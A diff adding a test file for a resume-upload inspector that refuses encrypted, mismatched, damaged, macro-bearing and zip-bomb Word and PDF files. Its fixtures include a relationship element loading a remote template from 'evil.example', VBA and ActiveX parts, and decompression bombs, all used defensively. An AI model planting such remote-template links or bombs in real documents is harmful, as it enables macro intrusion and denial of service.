@@ -1,0 +1,185 @@
+import { execFile } from 'node:child_process';
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { promisify } from 'node:util';
+import { resumeErrorCodes } from '@veramasa/contract';
+import { describe, expect, test } from 'vitest';
+import { resumeFixture } from '../test-bed/resumes.ts';
+import { zipOf } from '../test-bed/zip-of.ts';
+import { inspectResume } from './inspect-resume.ts';
+
+const fixture = (name: string) => resumeFixture(name).bytes;
+const pdf = fixture('written.pdf');
+const latin = (text: string) => Buffer.from(text, 'latin1');
+const contentTypes = '[Content_Types].xml';
+const documentType = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
+const evilTemplate =
+  '<Relationship Type="x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>';
+
+describe('a resume that a real program wrote', () => {
+  test.each(['written.pdf', 'printed.pdf', 'packed.pdf', 'written.docx', 'written.doc'])(
+    '%s passes',
+    async (name) => expect(await inspectResume(name, fixture(name))).toBeNull(),
+  );
+
+  test('an encrypted .docx is refused', async () =>
+    expect(await inspectResume('locked.docx', fixture('locked.docx'))).toBe('resume_encrypted'));
+
+  test('an encrypted PDF passes', async () =>
+    expect(await inspectResume('locked.pdf', fixture('locked.pdf'))).toBeNull());
+
+  test('a .docx with macros is refused, whatever its content types say', async () =>
+    expect(await inspectResume('macros.docx', fixture('macros.docx'))).toBe('resume_macros'));
+
+  test.each([
+    ['a.pdf', 'written.docx'],
+    ['a.pdf', 'written.doc'],
+    ['a.docx', 'written.pdf'],
+    ['a.docx', 'written.doc'],
+    ['a.docx', 'sheet.xlsx'],
+    ['a.doc', 'written.docx'],
+    ['a.doc', 'written.pdf'],
+    ['a.doc', 'sheet.xls'],
+  ])('%s with the content of %s is a mismatch', async (name, content) =>
+    expect(await inspectResume(name, fixture(content))).toBe('resume_mismatch'),
+  );
+
+  test.each(['written.pdf', 'printed.pdf', 'packed.pdf', 'written.docx'])(
+    '%s is damaged when it was cut short',
+    async (name) => {
+      const whole = fixture(name);
+      for (const part of [0.1, 0.4, 0.6, 0.9]) {
+        const cut = whole.subarray(0, Math.floor(whole.length * part));
+        expect(await inspectResume(name, cut)).toBe('resume_damaged');
+      }
+    },
+  );
+});
+
+describe('a hostile .docx', () => {
+  test('with an encrypted part is refused as encrypted', async () => {
+    const archive = zipOf({ name: 'word/document.xml', content: 'x', flags: 1 });
+    expect(await inspectResume('a.docx', archive)).toBe('resume_encrypted');
+  });
+
+  test('with a part outside the file is damaged', async () => {
+    const outside = zipOf({ name: 'a', content: 'x' });
+    outside.writeUInt32LE(0xfffffff0, outside.length - 22 - 47 + 42);
+    expect(await inspectResume('a.docx', outside)).toBe('resume_damaged');
+  });
+
+  test('with two lists of content types is damaged', async () => {
+    expect(await inspectResume('a.docx', zipOf({ name: contentTypes, content: documentType }))).toBeNull();
+    for (const first of [documentType, '']) {
+      const twice = zipOf(
+        { name: contentTypes, content: first },
+        { name: contentTypes, content: documentType },
+      );
+      expect(await inspectResume('a.docx', twice)).toBe('resume_damaged');
+    }
+  });
+
+  test('without a document is a mismatch', async () =>
+    expect(await inspectResume('a.docx', zipOf({ name: 'readme.txt', content: 'hello' }))).toBe(
+      'resume_mismatch',
+    ));
+
+  test.each([
+    ['word/vbaProject.bin', 'x'],
+    ['word/activeX/activeX1.xml', 'x'],
+    [contentTypes, 'application/vnd.ms-word.document.macroEnabled.main+xml'],
+    ['word/_rels/settings.xml.rels', evilTemplate],
+    ['other/_rels/settings.xml.rels', evilTemplate],
+  ])('with %s (%#) is refused for its macros', async (name, content) =>
+    expect(await inspectResume('a.docx', zipOf({ name, content }))).toBe('resume_macros'),
+  );
+});
+
+/** Inspects in a process of its own, with the memory limits that `npm start` and the service set. */
+async function inspectWithProductionLimits(name: string, bytes: Buffer): Promise<string> {
+  const folder = mkdtempSync(join(tmpdir(), 'resume-'));
+  try {
+    const file = join(folder, name);
+    writeFileSync(file, bytes);
+    const inspector = new URL('inspect-resume.ts', import.meta.url).href;
+    const script = `const { inspectResume } = await import(${JSON.stringify(inspector)});
+      console.log(await inspectResume(${JSON.stringify(name)}, (await import('node:fs')).readFileSync(${JSON.stringify(file)})));`;
+    const limits = ['--max-semi-space-size=4', '--max-old-space-size=160'];
+    const { stdout } = await promisify(execFile)(
+      process.execPath,
+      [...limits, '--input-type=module', '-e', script],
+      { timeout: 20_000 },
+    );
+    return stdout.trim();
+  } finally {
+    rmSync(folder, { recursive: true, force: true });
+  }
+}
+
+describe('a .docx that unpacks to too much', () => {
+  const zeros = Buffer.alloc(80 * 1024 * 1024);
+  /** Parts that name relations: each is searched for templates from elsewhere. */
+  const lists = (count: number, bytes: number) =>
+    Array.from({ length: count }, (_, index) => ({
+      name: `word/${index}/_rels/settings.xml.rels`,
+      content: '<Relationship '.repeat(bytes / 14),
+    }));
+
+  test('is refused by the size that it claims', async () => {
+    const archive = zipOf({ name: 'word/document.xml', content: zeros });
+    expect(archive.length).toBeLessThan(100_000);
+    expect(await inspectWithProductionLimits('a.docx', archive)).toBe('resume_bomb');
+  });
+
+  test('is refused when it claims a smaller size', async () => {
+    const liar = zipOf({ name: 'word/document.xml', content: zeros, claimedBytes: 1000 });
+    expect(await inspectWithProductionLimits('a.docx', liar)).toBe('resume_damaged');
+  });
+
+  test('is refused by the size of its lists', async () => {
+    expect(await inspectWithProductionLimits('a.docx', zipOf(...lists(1, 300_000)))).toBe('resume_bomb');
+    expect(await inspectWithProductionLimits('a.docx', zipOf(...lists(300, 252_000)))).toBe('resume_bomb');
+  });
+
+  test('is refused by its number of parts', async () => {
+    const parts = Array.from({ length: 5001 }, (_, index) => ({ name: `word/${index}.xml`, content: '' }));
+    expect(await inspectWithProductionLimits('a.docx', zipOf(...parts))).toBe('resume_bomb');
+  });
+
+  test.each([
+    ['a long list of relations', zipOf(...lists(1, 252_000))],
+    ['5,000 parts', zipOf(...Array.from({ length: 5000 }, (_, i) => ({ name: `${i}`, content: 'x' })))],
+  ])('%s are read within 3 s', async (_what, bytes) => {
+    const began = performance.now();
+    await inspectResume('a.docx', bytes);
+    expect(performance.now() - began).toBeLessThan(3000);
+  });
+});
+
+test('a PDF may start after a line break, not after other bytes', async () => {
+  expect(await inspectResume('a.pdf', Buffer.concat([latin('MZ\u0090'), pdf]))).toBe('resume_mismatch');
+  expect(await inspectResume('a.pdf', Buffer.concat([latin('\r\n'), pdf]))).toBeNull();
+});
+
+test('a .doc with macros is refused', async () => {
+  const storage = Buffer.from('_VBA_PROJECT\0', 'utf16le');
+  expect(await inspectResume('a.doc', Buffer.concat([fixture('written.doc'), storage]))).toBe(
+    'resume_macros',
+  );
+});
+
+test('no cut or mangled resume makes the inspection throw', async () => {
+  let seed = 7;
+  const random = (below: number) => {
+    seed = (seed * 1103515245 + 12345) % 2147483648;
+    return seed % below;
+  };
+  for (const name of ['written.docx', 'written.doc', 'written.pdf'])
+    for (let round = 0; round < 150; round++) {
+      const mangled = Buffer.from(fixture(name));
+      for (let hit = 0; hit < 20; hit++) mangled[random(mangled.length)] = random(256);
+      const verdict = await inspectResume(name, mangled.subarray(0, random(mangled.length)));
+      expect([null, ...resumeErrorCodes]).toContain(verdict);
+    }
+});
